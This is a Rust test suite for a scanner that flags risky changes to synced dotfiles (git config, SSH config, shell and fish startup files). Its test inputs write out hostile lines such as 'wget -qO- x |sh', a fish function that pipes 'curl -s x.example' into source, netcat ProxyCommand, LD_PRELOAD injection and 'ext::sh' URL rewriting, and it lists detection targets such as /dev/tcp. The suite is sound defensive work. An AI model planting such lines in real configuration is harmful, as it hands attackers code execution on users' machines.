//! Every shipped rule's stored cases, catalog coverage, and engine properties
//! (diff-awareness, fail-closed behaviour, hostile inputs).

use qcs_core::risk::{self, Change, Engine, FileKind, ScanInput, Severity, Side};

fn case_path(engine: &Engine, filetypes: Option<&[String]>) -> String {
    let glob = filetypes
        .and_then(|f| f.first())
        .and_then(|id| engine.filetype_globs(id))
        .and_then(|g| g.first().cloned());
    match glob {
        Some(g) => g.replace("**/", "").replace('*', "x"),
        None => "notes/file.txt".to_string(),
    }
}

#[test]
fn every_rule_has_cases_and_they_pass() {
    let engine = Engine::load_default();
    let mut failures = Vec::new();
    let mut rules = 0;
    for rule in engine.rules() {
        rules += 1;
        let positives = rule.cases.iter().filter(|c| c.expect).count();
        let negatives = rule.cases.len() - positives;
        if positives == 0 || negatives == 0 {
            failures.push(format!(
                "{}: needs ≥1 positive and ≥1 negative case (has {positives}/{negatives})",
                rule.id
            ));
        }
        for (i, case) in rule.cases.iter().enumerate() {
            let path = case
                .path
                .clone()
                .unwrap_or_else(|| case_path(&engine, rule.filetypes));
            let content = match case.content_bytes() {
                Ok(c) => c,
                Err(e) => {
                    failures.push(format!("{} case {i}: {e}", rule.id));
                    continue;
                }
            };
            let input = ScanInput {
                path: &path,
                content: &content,
                base: case.base.as_deref().map(str::as_bytes),
                mode: case.mode,
                kind: case.kind.unwrap_or(FileKind::Regular),
            };
            let findings = engine.scan(&input);
            let fired = findings.iter().any(|f| f.rule == rule.id);
            if fired != case.expect {
                let seen: Vec<&str> = findings.iter().map(|f| f.rule.as_str()).collect();
                failures.push(format!(
                    "{} case {i} ({path}): expected fired={}, got {fired}; findings: {seen:?}",
                    rule.id, case.expect
                ));
            }
        }
    }
    assert!(rules >= 100, "only {rules} rules");
    assert!(
        failures.is_empty(),
        "{} failing:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Catalog rows (risk-catalog §1, §2, §3, §4.1–§4.3, §4.14) that must each be
/// named by at least one rule's `rows`, or be listed as enforced elsewhere.
#[test]
fn catalog_rows_are_covered() {
    let engine = Engine::load_default();
    let rows: Vec<String> = engine.rules().flat_map(|r| r.rows.to_vec()).collect();
    let required = [
        // §1
        "U-BIDI",
        "U-ZW",
        "U-TAG",
        "U-VS",
        "U-WS",
        "U-PUA",
        "U-CONF",
        "U-COMB",
        "ENC",
        "NUL",
        "CR",
        "ESC",
        "CTRL",
        "LONG",
        "VBLANK",
        "CONT",
        "TRAIL",
        "SIZE",
        "OBFUSC",
        "DUPKEY",
        // §2 (M-DEST: apply time, agent; M-XATTR: the protocol carries no xattrs)
        "M-LINK",
        "M-TYPE",
        "M-SUID",
        "M-EXEC",
        "M-PERM",
        "P-TRAV",
        "P-UNI",
        "P-NL",
        "P-DASH",
        "P-NEW",
        "P-ALLOW",
        // §3
        "core.fsmonitor",
        "core.hookspath",
        "hook.*.command",
        "init.templatedir",
        "core.pager",
        "pager.*",
        "core.editor",
        "sequence.editor",
        "core.sshcommand",
        "core.askpass",
        "credential.helper",
        "diff.external",
        "diff.*.command",
        "filter.*",
        "merge.*.driver",
        "alias.* = !",
        "-c/--config-env",
        "interactive.difffilter",
        "gpg.program",
        "allowedsignersfile",
        "commit.gpgsign",
        "packobjectshook",
        "alternaterefscommand",
        "core.gitproxy",
        "sendemail.*cmd",
        "sendemail.smtpserver",
        "remote.*.uploadpack",
        "remote.*.url",
        "url.*.insteadof",
        "protocol.allow",
        "protocol.ext",
        "protocol.file",
        "sslverify",
        "sslcainfo",
        "pinnedpubkey",
        "proxy",
        "curloptresolve",
        "extraheader",
        "cookiefile",
        "followredirects",
        "credentialsinurl",
        "safe.directory",
        "safe.barerepository",
        "include.path",
        "core.attributesfile",
        "global attributes",
        "core.excludesfile",
        "global ignore",
        "fsckobjects",
        "submodule.recurse",
        "sideband",
        "core.protectntfs",
        "core.symlinks",
        "lfs.",
        "user.name",
        // §4.1
        "ProxyCommand",
        "Match … exec",
        "KnownHostsCommand",
        "LocalCommand",
        "PKCS11Provider",
        "XAuthLocation",
        "IdentityAgent",
        "ForwardAgent",
        "ForwardX11Trusted",
        "ForwardX11 yes",
        "StrictHostKeyChecking no",
        "accept-new",
        "UserKnownHostsFile",
        // "CheckHostIP no" is OpenSSH's default since 8.5: the ssh-config classes
        // call it inert, so no rule flags it.
        "HostKeyAlias",
        "Hostname",
        "CanonicalDomains",
        "VerifyHostKeyDNS",
        "Include",
        "early Host *",
        "ControlMaster",
        "ControlPath",
        "LocalForward",
        "GatewayPorts",
        "RemoteForward to local",
        "PermitRemoteOpen",
        "SendEnv",
        "Ciphers",
        "WarnWeakCrypto",
        "LogLevel",
        "SetEnv, RemoteCommand",
        // §4.2
        "authorized_keys: any added",
        "cert-authority",
        "command=",
        "restrict removed",
        "~/.ssh/rc",
        "~/.ssh/environment",
        "@cert-authority",
        "new or changed key",
        "wildcard host",
        "@revoked",
        "removed lines",
        "hashed",
        "allowed_signers",
        "id_*",
        // §4.3
        "whole file",
        "*.zwc",
        "fish functions",
        "fish_variables",
        "download and execute",
        "alias shadowing",
        "function shadowing",
        "PROMPT_COMMAND",
        "trap",
        "LD_PRELOAD",
        "PATH= that prepends",
        "PATH with .",
        "bind -x",
        "readline/bind macros",
        "enable -f",
        "HISTFILE",
        "umask",
        "xhost",
        "/dev/tcp",
        "nohup",
        "§4.3 sudo",
        "qrexec-client-vm",
        "git config --global",
        "eval",
        "inputrc",
        // §4.14
        "§4.14",
    ];
    let missing: Vec<&str> = required
        .iter()
        .copied()
        .filter(|r| !rows.iter().any(|row| row.contains(r)))
        .collect();
    assert!(missing.is_empty(), "rows without a rule: {missing:?}");
}

fn scan(path: &str, content: &str, base: Option<&str>) -> Vec<risk::Finding> {
    risk::scan(&ScanInput {
        path,
        content: content.as_bytes(),
        base: base.map(str::as_bytes),
        mode: None,
        kind: FileKind::Regular,
    })
}

#[test]
fn removed_protection_is_a_base_side_finding() {
    let base = "[user]\n\tname = A\n[commit]\n\tgpgsign = true\n";
    let new = "[user]\n\tname = A\n";
    let f = scan(".gitconfig", new, Some(base));
    let removed = f.iter().find(|f| f.rule == "git.signing.removed").unwrap();
    assert_eq!(removed.side, Side::Base);
    assert_eq!(removed.change, Change::Removed);
    assert_eq!(removed.line, Some(4));
}

#[test]
fn unchanged_risky_settings_are_not_reported_again_but_changes_are() {
    let base = "[core]\n\tpager = less\n";
    assert!(
        scan(
            ".gitconfig",
            "[core]\n\tpager = less\n[user]\n\tname = B\n",
            Some(base)
        )
        .iter()
        .all(|f| f.rule != "git.core.pager")
    );
    let changed = scan(".gitconfig", "[core]\n\tpager = evil\n", Some(base));
    let pager = changed.iter().find(|f| f.rule == "git.core.pager").unwrap();
    assert_eq!(pager.change, Change::Changed);
    assert_eq!(pager.severity, Severity::Critical);
}

#[test]
fn git_parser_variants_are_folded() {
    for text in [
        "[CORE]\n\tFSMONITOR = /x\n",
        "[core]\n\tfsmonitor = \"/x\"\n",
        "[core] fsmonitor = /x",
        "[core]\n\tfsmonitor = /x \\\n  y\n",
        "[core]\r\n\tfsmonitor=/x\r\n",
        "[core \"\"]\n",
    ]
    .iter()
    .take(5)
    {
        let f = scan(".gitconfig", text, None);
        assert!(
            f.iter().any(|f| f.rule == "git.core.fsmonitor"),
            "{text:?}: {f:?}"
        );
    }
}

#[test]
fn escalation_applies() {
    let f = scan(
        ".gitconfig",
        "[url \"ext::sh -c x\"]\n\tinsteadOf = https://x/\n",
        None,
    );
    let r = f.iter().find(|f| f.rule == "git.url.insteadof").unwrap();
    assert_eq!(r.severity, Severity::Critical);
    let f = scan(
        ".gitconfig",
        "[url \"https://mirror/\"]\n\tinsteadOf = https://x/\n",
        None,
    );
    // Redirecting URLs is dangerous in itself (rules/git-config.toml): the class
    // raises the rule's finding to critical.
    let r = f.iter().find(|f| f.rule == "git.url.insteadof").unwrap();
    assert_eq!(r.severity, Severity::Critical);
}

#[test]
fn unknown_and_unparseable_files_are_findings() {
    let f = scan("random/file", "hello\n", None);
    assert!(f.iter().any(|f| f.rule == "meta.unknown-filetype"));
    let f = scan(".gitconfig", "[core]\n\tx = \"unterminated\n", None);
    assert!(
        f.iter()
            .any(|f| f.rule == "parse.failed" && f.severity == Severity::Critical)
    );
    let f = scan(".ssh/config", "Host \"x\n", None);
    assert!(f.iter().any(|f| f.rule == "parse.failed"));
}

#[test]
fn identical_content_has_no_content_findings() {
    let text = "[core]\n\tpager = evil\n";
    assert!(scan(".gitconfig", text, Some(text)).is_empty());
}

#[test]
fn over_the_scan_limit_is_critical_and_not_parsed() {
    let engine = Engine::load_default();
    let big = vec![b'a'; engine.limits().max_scan_bytes + 1];
    let f = engine.scan(&ScanInput {
        path: ".gitconfig",
        content: &big,
        base: None,
        mode: None,
        kind: FileKind::Regular,
    });
    assert!(
        f.iter()
            .any(|f| f.rule == "content.too-large" && f.severity == Severity::Critical)
    );
    // No per-line rule ran on it.
    assert!(f.iter().all(|f| f.line.is_none()));
}

#[test]
fn never_sync_list() {
    assert!(risk::is_never_sync(".ssh/id_rsa"));
    assert!(risk::is_never_sync(".gnupg/private-keys-v1.d/ABC.key"));
    assert!(risk::is_never_sync("code/.git/hooks/pre-commit"));
    assert!(risk::is_never_sync(".zsh_history"));
    assert!(!risk::is_never_sync(".ssh/id_rsa.pub"));
    assert!(!risk::is_never_sync(".gitconfig"));
}

#[test]
fn findings_carry_reference_why_and_span() {
    let f = scan(".gitconfig", "[user]\n\tname = Al\u{202E}ice\n", None);
    let bidi = f.iter().find(|f| f.rule == "content.bidi").unwrap();
    assert_eq!(bidi.line, Some(2));
    let span = bidi.span.unwrap();
    assert_eq!(span.end - span.start, 3);
    assert!(!bidi.reference.is_empty());
    assert!(bidi.message.contains("RLO"));
    assert!(!bidi.why.is_empty());
}

/// xorshift64, reproducible from its seed (one copy for the workspace, in qcs-test-support).
use qcs_test_support::XorShift64 as Rng;

#[test]
fn random_bytes_never_panic_in_any_parser() {
    let engine = Engine::load_default();
    let mut rng = Rng(0x1234_5678_9abc_def1);
    let pieces: &[&[u8]] = &[
        b"[",
        b"]",
        b"\"",
        b"\\",
        b"\n",
        b"\r",
        b"=",
        b" ",
        b"\t",
        b"#",
        b";",
        b"core",
        b".",
        b"Host",
        b"Match",
        b"exec",
        b"\xff",
        b"\xe2\x80\xae",
        b"\x00",
        b"\x1b[",
        b"a",
        b"-",
    ];
    for i in 0..400 {
        let mut content = Vec::new();
        for _ in 0..(rng.next() % 60) {
            content.extend_from_slice(pieces[(rng.next() % pieces.len() as u64) as usize]);
        }
        let path = [
            ".gitconfig",
            ".ssh/config",
            ".bashrc",
            ".ssh/known_hosts",
            "x/y",
        ][i % 5];
        let base = content.iter().rev().copied().collect::<Vec<u8>>();
        let _ = engine.scan(&ScanInput {
            path,
            content: &content,
            base: Some(&base),
            mode: Some((rng.next() % 0o10000) as u32),
            kind: FileKind::Regular,
        });
    }
}

#[test]
fn broken_rule_files_are_refused_with_a_reason() {
    assert!(Engine::from_toml("schema = 2").is_err());
    let bad = risk::DEFAULT_RULES.replacen("pattern = '\\S[ \\t]{40,}\\S'", "pattern = '('", 1);
    assert!(Engine::from_toml(&bad).is_err());
}

#[test]
fn many_hits_of_one_rule_are_summarised_at_the_worst_severity() {
    let mut text = String::new();
    for i in 0..500 {
        text.push_str(&format!("line {i} \u{202e}\n"));
    }
    let f = scan("notes/x", &text, None);
    let bidi: Vec<_> = f.iter().filter(|f| f.rule == "content.bidi").collect();
    assert_eq!(bidi.len(), risk::MAX_FINDINGS_PER_RULE + 1);
    let summary = bidi.iter().find(|f| f.line.is_none()).unwrap();
    assert_eq!(summary.severity, Severity::Critical);
    assert!(
        summary.message.starts_with("450 more findings"),
        "{}",
        summary.message
    );
}

/// Syntax variants an attacker might use to slip a setting past the rules.
#[test]
fn evasion_variants_are_still_flagged() {
    let cases: &[(&str, &str, &str)] = &[
        (
            ".gitconfig",
            "[core]\n\tfsmonitor = \"/tmp/x\"\n",
            "git.core.fsmonitor",
        ),
        (
            ".gitconfig",
            "[Core]\n\tFSMonitor=/tmp/x",
            "git.core.fsmonitor",
        ),
        (
            ".gitconfig",
            "[core]fsmonitor=/tmp/x\n",
            "git.core.fsmonitor",
        ),
        (
            ".gitconfig",
            "[core] ; c\n\tfsmonitor = /x ; c\n",
            "git.core.fsmonitor",
        ),
        (
            ".gitconfig",
            "[core]\r\n\tfsmonitor\t=\t/x\r\n",
            "git.core.fsmonitor",
        ),
        (
            ".gitconfig",
            "\u{feff}[core]\n\tfsmonitor = /x\n",
            "git.core.fsmonitor",
        ),
        (
            ".gitconfig",
            "[core]\n\tfsmonitor = /x \\\n  --flag\n",
            "git.core.fsmonitor",
        ),
        (
            ".gitconfig",
            "[core]\n\tfsmon\\\nitor = /x\n",
            "parse.failed",
        ),
        (
            ".gitconfig",
            "[core]\n\tfs\u{200b}monitor = /x\n",
            "parse.failed",
        ),
        (".gitconfig", "[ core ]\n\tfsmonitor = /x\n", "parse.failed"),
        (
            ".gitconfig",
            "[core]\n\tpager = x\n\u{0}[core]\n",
            "content.nul",
        ),
        (
            ".gitconfig",
            "[include]\n\tpath = /tmp/evil\n",
            "git.include",
        ),
        (
            ".gitconfig",
            "[IncludeIf \"gitdir:/\"]\n\tPath = /tmp/e\n",
            "git.include",
        ),
        (
            ".gitconfig",
            "[url \"ext::sh\"]\n\tInsteadOf = https://\n",
            "git.url.insteadof",
        ),
        (".ssh/config", "proxycommand nc %h %p\n", "ssh.proxycommand"),
        (".ssh/config", "ProxyCommand=nc %h\n", "ssh.proxycommand"),
        (
            ".ssh/config",
            "\tProxyCommand\t\"sh -c x\"\n",
            "ssh.proxycommand",
        ),
        (
            ".ssh/config",
            "ProxyCommand none ; id\n",
            "ssh.proxycommand",
        ),
        (
            ".ssh/config",
            "Host x\nMatch Exec \"x\"\n",
            "ssh.match.exec",
        ),
        (".ssh/config", "Match host a !exec x\n", "ssh.match.exec"),
        (".ssh/config", "Match exec=x\n", "ssh.match.exec"),
        (".ssh/config", "INCLUDE /tmp/*\n", "ssh.include"),
        (".bashrc", "  alias   sudo='x'\n", "shell.alias-shadow"),
        (
            ".bashrc",
            "declare -x LD_PRELOAD=/x\n",
            "env.code-injection",
        ),
        (".bashrc", "LD_PRELOAD=/x ls\n", "env.code-injection"),
        (".bashrc", "wget -qO- x |sh\n", "shell.download-exec"),
        (".emacs", "; harmless comment\n", "file.unparsed-change"),
    ];
    let mut missed = Vec::new();
    for (path, content, rule) in cases {
        let f = scan(path, content, None);
        if !f.iter().any(|f| f.rule == *rule) {
            let seen: Vec<&str> = f.iter().map(|f| f.rule.as_str()).collect();
            missed.push(format!("{path} {content:?}: no {rule}; got {seen:?}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn structured_findings_point_at_their_key() {
    let f = scan(".gitconfig", "[core]\n\tFsMonitor = /x\n", None);
    let hit = f.iter().find(|f| f.rule == "git.core.fsmonitor").unwrap();
    assert_eq!(hit.span.map(|s| (s.start, s.end)), Some((1, 10)));
    let f = scan(".ssh/config", "Host *\n  ProxyCommand nc %h\n", None);
    let hit = f.iter().find(|f| f.rule == "ssh.proxycommand").unwrap();
    assert_eq!(hit.span.map(|s| (s.start, s.end)), Some((2, 14)));
}

/// fish is not bash: its files are unparsed, so every changed hunk is a critical, gated
/// `file.unparsed-change` — an attacker's `function ls; …; end` cannot pass as a setting
/// the bash parser happened to read as harmless.
#[test]
fn fish_files_are_unparsed_and_every_change_is_critical() {
    let base = "set -gx EDITOR vim\n";
    for path in [
        ".config/fish/config.fish",
        ".config/fish/conf.d/10-aliases.fish",
        ".config/fish/functions/ll.fish",
        ".config/fish/completions/mytool.fish",
        ".config/fish/themes/x.fish",
    ] {
        let content = "set -gx EDITOR vim\nfunction ls; command ls --color $argv; curl -s x.example | source; end\n";
        let f = scan(path, content, Some(base));
        let unparsed: Vec<_> = f
            .iter()
            .filter(|f| f.rule == "file.unparsed-change")
            .collect();
        assert_eq!(unparsed.len(), 1, "{path}: {f:?}");
        assert_eq!(unparsed[0].severity, Severity::Critical, "{path}");
        assert!(unparsed[0].severity.gates(), "{path}");
        // Read as lines, not as shell: nothing may call it a parse failure or an
        // inert setting.
        assert!(!f.iter().any(|f| f.rule == "parse.failed"), "{path}: {f:?}");
        // An unchanged file has nothing to review.
        let same = scan(path, base, Some(base));
        assert!(
            !same.iter().any(|f| f.rule == "file.unparsed-change"),
            "{path}: {same:?}"
        );
    }
    // The bash files keep their parser.
    let f = scan(".bashrc", "export LANG=C.UTF-8\n", Some("export LANG=C\n"));
    assert!(!f.iter().any(|f| f.rule == "file.unparsed-change"), "{f:?}");
    // fish's own variable file keeps its rules.
    let f = scan(
        ".config/fish/fish_variables",
        "SETUVAR fish_user_paths:/tmp/bin\n",
        None,
    );
    assert!(f.iter().any(|f| f.rule == "shell.fish.variables"), "{f:?}");
}
